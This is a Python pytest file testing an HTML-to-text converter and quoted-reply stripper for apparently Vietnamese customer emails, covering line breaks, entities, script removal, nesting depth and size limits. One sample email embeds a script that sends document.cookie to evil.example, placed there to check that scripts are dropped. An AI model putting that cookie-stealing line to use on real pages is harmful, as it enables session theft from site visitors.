import pytest

from s8_intake.domain.html_text import (
    MAX_HTML_EVENTS,
    convert_html,
    html_to_text,
    strip_quoted_reply,
)
from s8_shared.contracts.inbound import MAX_TEXT_CHARS

GMAIL_VI_HTML = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Đơn hàng #A1023</title>
<style>p { color: red }</style></head>
<body>
<div dir="ltr">Chào shop,</div>
<div><br></div>
<div>Tôi đặt đơn   #A1023 ngày 20/11 nhưng
    chưa nhận được hàng.</div>
<div>Shop kiểm tra giúp mình nhé &amp; báo lại sớm.</div>
<script>fetch("https://evil.example/steal?c=" + document.cookie)</script>
<!-- tracking comment -->
</body></html>"""


def test_html_keeps_line_breaks_and_collapses_source_whitespace() -> None:
    assert html_to_text(GMAIL_VI_HTML) == (
        "Chào shop,\n\n"
        "Tôi đặt đơn #A1023 ngày 20/11 nhưng chưa nhận được hàng.\n"
        "Shop kiểm tra giúp mình nhé & báo lại sớm."
    )


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<p>Hello</p><p>World</p>", "Hello\n\nWorld"),
        ("Line one<br>Line two<br/>Line three", "Line one\nLine two\nLine three"),
        ("A<br><br>B", "A\n\nB"),
        ("<div>A</div><div>B</div>", "A\nB"),
        ("<ul><li>Tivi</li><li>Tủ lạnh</li></ul>", "Tivi\nTủ lạnh"),
        ("<h1>Title</h1>Body", "Title\n\nBody"),
        ("<table><tr><td>Mã</td><td>A1023</td></tr></table>", "Mã A1023"),
        ("Xin <b>chào</b> <i>bạn</i>", "Xin chào bạn"),
    ],
)
def test_block_elements_and_br_become_line_breaks(html: str, expected: str) -> None:
    assert html_to_text(html) == expected


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<p>Giá: 1.000.000&nbsp;₫ &lt;đã gồm VAT&gt;</p>", "Giá: 1.000.000 ₫ <đã gồm VAT>"),
        (
            "Tom &amp; Jerry &quot;quoted&quot; &#39;x&#39; &#x1F600;",
            "Tom & Jerry \"quoted\" 'x' 😀",
        ),
        ("caf&eacute; Hu&#7871;", "café Huế"),
    ],
)
def test_entities_are_unescaped(html: str, expected: str) -> None:
    assert html_to_text(html) == expected


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert('x')</script>Visible",
        "<style>.a{display:none}</style>Visible",
        "<head><title>Hidden</title></head><body>Visible</body>",
        "<!-- Hidden -->Visible",
        "<noscript>Hidden</noscript>Visible",
        "<![CDATA[Hidden]]>Visible",
        '<img src="https://tracker.example/p.gif" alt="Hidden">Visible',
    ],
)
def test_scripts_styles_head_and_comments_are_dropped(html: str) -> None:
    assert html_to_text(html) == "Visible"


def test_an_unclosed_head_does_not_swallow_the_body() -> None:
    assert html_to_text("<html><head><title>T</title><body><p>Nội dung</p>") == "Nội dung"


def test_deeply_nested_html_does_not_blow_the_stack() -> None:
    assert html_to_text("<div>" * 3000 + "sâu" + "</div>" * 3000) == "sâu"


def test_the_whole_text_is_converted_and_normalization_cuts_it_recording_the_cut() -> None:
    text = html_to_text("<p>" + "a" * (MAX_TEXT_CHARS + 500) + "</p>")
    assert len(text) == MAX_TEXT_CHARS + 500  # the cut is normalize's, with text_cut_from


@pytest.mark.parametrize("html", ["", "   ", "<p> </p><br>", "<script>x()</script>"])
def test_html_without_visible_text_gives_an_empty_string(html: str) -> None:
    assert html_to_text(html) == ""


GMAIL_VI_REPLY = """Mình vẫn chưa nhận được tiền hoàn, shop kiểm tra lại giúp.

Vào Th 2, 25 thg 11, 2026 lúc 09:30 Nguyễn Lan <lan@example.vn> đã viết:
> Chào chị Lan,
> Shop đã hoàn tiền cho đơn #A1023.
"""

GMAIL_EN_REPLY = """The refund still has not arrived.

On Mon, Nov 25, 2026 at 9:30 AM Lan Nguyen <lan@example.vn> wrote:
> Hi Lan,
> We have refunded order #A1023.
"""

GMAIL_EN_WRAPPED = """Still broken after the update.

On Mon, Nov 25, 2026 at 9:30 AM Support Team <
support@shop.example> wrote:
> Please update the firmware.
"""

OUTLOOK_EN = """Please cancel my order.

-----Original Message-----
From: Support <support@shop.example>
Sent: Monday, November 25, 2026 9:30 AM
Subject: Your order
"""

OUTLOOK_HEADERS_ONLY = """Yes, Tuesday morning works.

________________________________
From: Support <support@shop.example>
Sent: Monday, November 25, 2026 9:30 AM
To: Minh Tran
"""

OUTLOOK_FROM_SENT = """Yes, Tuesday morning works.

From: Support <support@shop.example>
Sent: Monday, November 25, 2026 9:30 AM
To: Minh Tran
Subject: Technician visit
"""

OUTLOOK_VI = """Chiều thứ Ba mình ở nhà.

Từ: Bộ phận hỗ trợ <hotro@shop.vn>
Đã gửi: Thứ Hai, 25 tháng 11, 2026 9:30 SA
Đến: Trần Minh
"""

ONE_LINE_FROM_SENT = """OK, thanks.
From: Support <support@shop.example> Sent: Monday, November 25, 2026 9:30 AM
old text"""


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (GMAIL_VI_REPLY, "Mình vẫn chưa nhận được tiền hoàn, shop kiểm tra lại giúp."),
        (GMAIL_EN_REPLY, "The refund still has not arrived."),
        (GMAIL_EN_WRAPPED, "Still broken after the update."),
        (OUTLOOK_EN, "Please cancel my order."),
        (OUTLOOK_HEADERS_ONLY, "Yes, Tuesday morning works."),
        (OUTLOOK_FROM_SENT, "Yes, Tuesday morning works."),
        (OUTLOOK_VI, "Chiều thứ Ba mình ở nhà."),
        (ONE_LINE_FROM_SENT, "OK, thanks."),
    ],
    ids=[
        "gmail-vi",
        "gmail-en",
        "gmail-en-wrapped",
        "outlook-original-message",
        "outlook-rule",
        "outlook-from-sent",
        "outlook-vi",
        "from-sent-one-line",
    ],
)
def test_quoted_previous_email_is_removed(text: str, expected: str) -> None:
    assert strip_quoted_reply(text) == expected


def test_lines_quoted_with_gt_are_removed_wherever_they_are() -> None:
    text = "> Bao giờ giao hàng?\nThứ Sáu được không?\n>> cũ hơn\nCảm ơn."
    assert strip_quoted_reply(text) == "Thứ Sáu được không?\nCảm ơn."


@pytest.mark.parametrize(
    "text",
    [
        "> only a quote\n> nothing new",
        "On Mon, Nov 25, 2026 at 9:30 AM Lan <lan@example.vn> wrote:\n> hi",
    ],
)
def test_when_nothing_new_remains_the_original_is_kept(text: str) -> None:
    assert strip_quoted_reply(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "On Monday the technician wrote: nothing useful.",
        "On Monday the agent wrote:\nthat it is fixed, but it is not.",
        "From: the shop in Hà Nội\nI bought a fridge last week.",
        "Vào thứ Hai tôi đã gọi nhưng không ai nghe máy.",
        "Tôi đã viết email 3 lần rồi.",
    ],
)
def test_ordinary_sentences_that_look_like_separators_are_kept(text: str) -> None:
    assert strip_quoted_reply(text) == text


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ('<?xml version="1.0" encoding="utf-8"?><p>Xin chào</p>', "Xin chào"),
        ('<meta charset="iso-8859-1"><p>Huế</p>', "Huế"),
        ("a\x00b<p>c</p>", "a\ufffdb\n\nc"),
        ("<p<a<b" * 1000, ""),
        ("<!--" * 1000 + "x", ""),
    ],
)
def test_declarations_charsets_nul_bytes_and_broken_markup_are_read_safely(
    html: str, expected: str
) -> None:
    assert html_to_text(html) == expected


def test_a_body_nested_fifteen_thousand_deep_keeps_its_text() -> None:
    assert html_to_text("<div>" * 15_000 + "sâu" + "</div>" * 15_000) == "sâu"


def test_with_a_limit_conversion_stops_soon_after_the_limit() -> None:
    html = "<p>Đơn hàng giao chậm.</p>" * 6_000 + "<p>sau</p>" * 5_000
    text = html_to_text(html, limit=MAX_TEXT_CHARS)
    assert MAX_TEXT_CHARS < len(text) < 2 * MAX_TEXT_CHARS
    assert html_to_text(html).startswith(text)
    assert html_to_text("<p>ngắn</p>", limit=MAX_TEXT_CHARS) == "ngắn"


def test_a_body_of_tens_of_thousands_of_tags_stops_early_and_says_so() -> None:
    html = "<p>đơn <b>B1</b></p>" * 10_000  # 50,000 tags and texts, little text
    text, stopped = convert_html(html, limit=MAX_TEXT_CHARS)
    assert stopped
    assert text.startswith("đơn B1")
    assert text.count("đơn B1") < MAX_HTML_EVENTS // 5 + 1  # the text read before the stop
    assert convert_html("<p>ngắn</p>", limit=MAX_TEXT_CHARS) == ("ngắn", False)


def test_thousands_of_unclosed_tags_stop_the_conversion_early() -> None:
    html = "<b> đơn " * 20_000  # each <b> stays open: libxml2's work per tag grows with depth
    text, stopped = convert_html(html, limit=MAX_TEXT_CHARS)
    assert stopped
    assert text.startswith("đơn đơn")
